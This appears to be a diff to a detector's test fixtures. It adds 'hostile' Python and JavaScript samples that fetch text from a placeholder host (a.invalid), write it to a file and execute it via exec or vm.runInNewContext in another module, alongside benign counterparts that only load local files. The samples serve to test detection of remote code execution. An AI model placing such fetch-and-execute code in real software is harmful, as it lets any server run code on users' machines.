@@ -15,6 +15,11 @@ _NAMED = (
     "import functools, requests\ndef named(page):\n    @functools.wraps(page)\n    def run(code):\n"
     "        exec(code)\n    return run\n"
 )
+_LOAD = "def load(path):\n    with open(path) as f:\n        exec(f.read())\n"
+_RUN = (
+    "const fs = require('fs'), vm = require('vm');\n"
+    "module.exports.run = (path) => vm.runInNewContext(fs.readFileSync(path, 'utf8'));\n"
+)
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "decoded_code": {
@@ -26,7 +31,36 @@ HOSTILE: dict[str, dict[str, Sample]] = {
     },
     "remote_code": {
         "a member of an object that came from a server": js(_DESK % "news", line=4),
-        "the same in Python": py(_BOARD % "news", line=7),
+        "the same member in Python": py(_BOARD % "news", line=7),
+        "a file of code that came from a server, which another source runs": Sample(
+            {
+                "app.py": "import requests\nfrom load import load\n"
+                "open('a.txt', 'w').write(requests.get('https://a.invalid').text)\nload('a.txt')\n",
+                "load.py": _LOAD,
+            },
+            "block",
+            ("load.py", 3),
+        ),
+        "the same, saved by a third source": Sample(
+            {
+                "app.py": "from load import load\nfrom get import saved\nload(saved('a.txt'))\n",
+                "get.py": "from urllib.request import urlretrieve\ndef saved(path):\n"
+                "    urlretrieve('https://a.invalid', path)\n    return path\n",
+                "load.py": _LOAD,
+            },
+            "block",
+            ("load.py", 3),
+        ),
+        "the same in JavaScript": Sample(
+            {
+                "app.js": "const fs = require('fs'), { run } = require('./run');\n"
+                "fetch('https://a.invalid').then(r => r.text()).then(told => {\n"
+                "  fs.writeFileSync('a.txt', told);\n  run('a.txt');\n});\n",
+                "run.js": _RUN,
+            },
+            "block",
+            ("run.js", 2),
+        ),
         "a function that is named after another": py(
             _NAMED + "named(print)(requests.get('https://a.invalid').text)\n", line=5
         ),
@@ -47,7 +81,17 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     },
     "remote_code": {
         "another member than the one that came from a server": {"app.js": _DESK % "options"},
-        "the same in Python": {"app.py": _BOARD % "rules"},
+        "another member in Python": {"app.py": _BOARD % "rules"},
+        "a server names one of the program's own files, which another source runs": {
+            "app.py": "import requests\nfrom load import load\n"
+            "load('parts/' + requests.get('https://a.invalid').json()['name'])\n",
+            "load.py": _LOAD,
+        },
+        "the same in JavaScript": {
+            "app.js": "const { run } = require('./run');\n"
+            "fetch('https://a.invalid').then(r => r.json()).then(told => run(`parts/${told.name}.js`));\n",
+            "run.js": _RUN,
+        },
         "a function that is named after what a server said": {
             "app.py": _NAMED + "named(requests.get('https://a.invalid'))('1+1')\n"
         },
